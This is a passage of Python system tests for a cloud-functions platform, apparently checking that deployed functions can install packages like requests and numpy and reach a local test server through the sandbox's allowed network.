@functools.lru_cache(maxsize=1)
def why_no_index():
    """Why the package index that this machine uses cannot be used; empty: it answers."""
    with tempfile.TemporaryDirectory(prefix='cloudfunction-probe-') as folder:
        try:
            done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--no-deps', '-d', folder, '--retries', '0',
                                   '--timeout', '10', 'six'], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=60)
        except subprocess.TimeoutExpired:
            return 'the package index does not answer in 60 s'
    said = done.stderr.decode(errors='replace').strip()
    return '' if done.returncode == 0 else f'the package index does not answer: {said.splitlines()[-1] if said else "pip failed"}'


class RealPackages(SystemTest):
    """From the package index that this machine uses, where it answers."""

    own_platform = True

    @classmethod
    def setUpClass(cls):
        if why_no_index():
            raise unittest.SkipTest(why_no_index())

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                got = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
                body = json.dumps({'got': got, 'agent': self.headers['User-Agent'].partition('/')[0]}).encode()
                self.send_response(200)
                self.send_header('Content-Type', 'application/json')
                self.send_header('Content-Length', str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass
        cls.server = http.server.ThreadingHTTPServer(('0.0.0.0', 0), Handler)
        threading.Thread(target=cls.server.serve_forever, daemon=True).start()
        cls.addClassCleanup(cls.server.server_close)
        cls.addClassCleanup(cls.server.shutdown)
        cls.address = f'{own_address()}:{cls.server.server_port}'
        cls.properties = {'build.network': 'host', 'sandbox.network.allow': cls.address}
        super().setUpClass()

    def test_requests(self):
        """It fetches, from a server of the test."""
        for layer in self.get('/api/health').json['sandbox']['layers']:
            if layer['name'] == 'outbound_network' and not layer['active']:
                self.skipTest('functions have no network here: ' + layer['detail'])
        name = self.function('python', 'import requests\ndef handler(event):\n'
                             f'    return requests.post("http://{self.address}/data", json=event, timeout=10).json()\n',
                             dependencies=['requests'])
        self.assertEqual({'got': {'value': [1, 'two']}, 'agent': 'python-requests'}, self.result(name, {'value': [1, 'two']}))

    def test_numpy_within_the_default_memory(self):
        begun = time.monotonic()
        name = self.function('python', 'import numpy\ndef handler(event):\n'
                             '    return [float(numpy.mean(event)), float((numpy.ones((200, 200)) @ numpy.ones((200, 200)))[0, 0])]\n',
                             dependencies=['numpy'])
        self.assertEqual([2.0, 200.0], self.result(name, [1, 2, 3]), time.monotonic() - begun)


if __name__ == '__main__':
    unittest.main()
